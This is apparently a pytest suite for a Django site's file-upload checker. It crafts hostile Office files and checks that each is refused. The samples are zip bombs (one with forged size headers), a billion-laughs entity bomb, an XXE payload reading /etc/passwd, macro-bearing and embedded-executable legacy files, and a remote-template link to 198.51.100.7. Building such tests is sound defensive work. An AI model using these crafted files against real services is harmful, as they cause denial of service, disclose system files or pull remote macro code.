"""The one upload door, fed real crafted files: bombs, macros, legacy formats, damage."""

import io
import struct
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.utils import translation

from core.uploads import UnreadableFile, UnsafeFile, check_upload, open_workbook, read_rows
from tests import hostile


@pytest.fixture(autouse=True)
def english():
    """The assertions read the English messages; the site's default language is Chinese."""
    with translation.override("en"):
        yield


def plain_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["序号", "任务名称"])
    sheet.append([1, "农村改厕"])
    sheet.merge_cells("B2:B3")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """A copy of the archive with some parts replaced or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, payload in add.items():
            target.writestr(name, payload)
    return out.getvalue()


def file(data: bytes, name="plan.xlsx"):
    upload = io.BytesIO(data)
    upload.name = name
    return upload


def zip_bomb(unpacked_mb: int) -> bytes:
    """A real workbook carrying one part of zeros that inflates about a thousandfold."""
    out = io.BytesIO(plain_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("xl/media/image1.bin", "w") as part:
            zeros = bytes(1024 * 1024)
            for _ in range(unpacked_mb):
                part.write(zeros)
    return out.getvalue()


def lie_about_size(data: bytes, name: bytes, claimed: int) -> bytes:
    """Patch the central directory so one entry claims a small uncompressed size (headers that lie)."""
    buffer = bytearray(data)
    position = buffer.find(b"PK\x01\x02" + b"")
    while position != -1:
        name_length = struct.unpack_from("<H", buffer, position + 28)[0]
        if bytes(buffer[position + 46 : position + 46 + name_length]) == name:
            struct.pack_into("<I", buffer, position + 24, claimed)
            return bytes(buffer)
        position = buffer.find(b"PK\x01\x02", position + 4)
    raise AssertionError("entry not found")


def test_a_plain_workbook_passes_and_reads():
    upload = check_upload(file(plain_xlsx()))
    assert read_rows(upload)[:2] == [["序号", "任务名称"], [1, "农村改厕"]]
    assert [str(r) for r in open_workbook(upload).active.merged_cells.ranges] == ["B2:B3"]


def test_a_zip_bomb_is_refused_fast_with_little_memory():
    bomb = zip_bomb(100)
    assert len(bomb) < 1024 * 1024
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(UnsafeFile, match="image1.bin"):
        check_upload(file(bomb))
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 1, elapsed
    assert peak < 5 * 1024 * 1024, peak


def test_a_zip_bomb_whose_headers_lie_is_refused_while_inflating():
    bomb = lie_about_size(zip_bomb(50), b"xl/media/image1.bin", claimed=1000)
    tracemalloc.start()
    with pytest.raises(UnsafeFile):
        check_upload(file(bomb))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5 * 1024 * 1024, peak


def test_too_many_parts_are_refused(settings):
    settings.UPLOAD_MAX_ENTRIES = 50
    data = rewrite(plain_xlsx(), add={f"xl/media/p{i}.bin": b"x" for i in range(60)})
    with pytest.raises(UnsafeFile, match="too many parts"):
        check_upload(file(data))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""


def test_a_billion_laughs_workbook_is_refused():
    data = rewrite(plain_xlsx(), replace={"xl/worksheets/sheet1.xml": BILLION_LAUGHS})
    with pytest.raises(UnsafeFile, match="sheet1.xml"):
        check_upload(file(data))


def test_an_external_entity_hidden_after_a_comment_is_refused():
    sneaky = b'<?xml version="1.0"?><!-- note --><!doctype x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    data = rewrite(plain_xlsx(), replace={"xl/styles.xml": sneaky})
    with pytest.raises(UnsafeFile):
        check_upload(file(data))


def test_macro_files_are_refused_by_name_by_part_and_by_content_type():
    with pytest.raises(UnsafeFile, match=r"\.xlsm"):
        check_upload(file(plain_xlsx(), name="plan.xlsm"))
    with pytest.raises(UnsafeFile, match="vbaProject.bin"):
        check_upload(file(rewrite(plain_xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})))
    types = (
        zipfile.ZipFile(io.BytesIO(plain_xlsx()))
        .read("[Content_Types].xml")
        .replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    )
    with pytest.raises(UnsafeFile):
        check_upload(file(rewrite(plain_xlsx(), replace={"[Content_Types].xml": types})))


def test_a_truncated_file_gets_a_plain_message():
    data = plain_xlsx()
    with pytest.raises(UnreadableFile, match="damaged"):
        check_upload(file(data[: len(data) // 2]))


def test_a_file_that_is_not_a_workbook_gets_a_plain_message():
    with pytest.raises(UnreadableFile, match=r"does not contain what its name says \(\.xlsx\)"):
        check_upload(file(b"name,value\n1,2\n"))
    with pytest.raises(UnreadableFile, match=r"\.xlsx"):
        check_upload(file(plain_xlsx(), name="plan.pdf"))
    with pytest.raises(UnreadableFile, match=r"\.xls"):
        check_upload(file(b"\xd0\xcf\x11\xe0", name="old.xls"))


def test_a_corrupted_part_gets_a_plain_message():
    data = bytearray(plain_xlsx())
    middle = data.find(b"PK\x03\x04", 100) - 20  # inside the first entry's compressed bytes
    data[middle : middle + 8] = b"\x00" * 8
    with pytest.raises(UnreadableFile):
        check_upload(file(bytes(data)))


def test_an_upload_over_the_size_limit_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    with pytest.raises(UnsafeFile, match="MB"):
        check_upload(file(plain_xlsx()))


def test_a_word_file_renamed_xlsx_is_refused_by_its_content():
    with pytest.raises(UnreadableFile, match="does not contain what its name says"):
        check_upload(file(hostile.plain_docx(), name="台账.xlsx"), kinds=("xlsx", "docx"))


def test_clean_legacy_files_are_accepted_where_a_path_takes_them():
    assert (
        check_upload(file(hostile.clean_xls(), name="旧表.xls"), kinds=("xls",)).content_type
        == "application/vnd.ms-excel"
    )
    assert check_upload(file(hostile.clean_doc(), name="旧文.doc"), kinds=("doc",)).kind == "doc"


@pytest.mark.parametrize(
    "name, build, message",
    [
        ("宏.xls", hostile.macro_xls, "VBA project"),
        ("宏.doc", hostile.macro_doc, "VBA project"),
        ("宏表.xls", hostile.xlm_macro_xls, "Excel 4.0 macro sheets"),
    ],
)
def test_legacy_files_with_macros_are_refused(name, build, message):
    with pytest.raises(UnsafeFile, match=message):
        check_upload(file(build(), name=name), kinds=("xls", "doc"))


def test_a_legacy_file_carrying_an_embedded_package_is_refused():
    data = hostile._compound_file(
        {"WordDocument": b"\xec\xa5" + bytes(1022), "ObjectPool/_1/\x01Ole10Native": b"MZ" + bytes(200)}
    )
    with pytest.raises(UnsafeFile, match="embedded file"):
        check_upload(file(data, name="附件.doc"), kinds=("doc",))


def test_a_password_protected_office_file_is_refused_as_uncheckable():
    data = hostile._compound_file({"EncryptionInfo": b"\x04\x00", "EncryptedPackage": bytes(500)})
    with pytest.raises(UnsafeFile, match="password-protected"):
        check_upload(file(data, name="加密.xlsx"))


def test_a_macro_docx_renamed_is_refused():
    with pytest.raises(UnsafeFile, match="macros"):
        check_upload(file(hostile.macro_docx(), name="报告.docx"), kinds=("docx",))


def test_a_document_that_fetches_a_remote_template_is_refused():
    data = hostile.plain_docx()
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    with pytest.raises(UnsafeFile, match="198.51.100.7"):
        check_upload(
            file(hostile.rewrite(data, add={"word/_rels/settings.xml.rels": rels}), name="a.docx"), kinds=("docx",)
        )


def test_photos_and_pdfs_are_known_by_their_signature():
    assert check_upload(file(b"\xff\xd8\xff\xe0" + bytes(40), name="照片.JPG"), kinds=("jpeg",)).kind == "jpeg"
    with pytest.raises(UnreadableFile):
        check_upload(file(b"%PDF-1.7\n" + bytes(40), name="照片.jpg"), kinds=("jpeg", "pdf"))
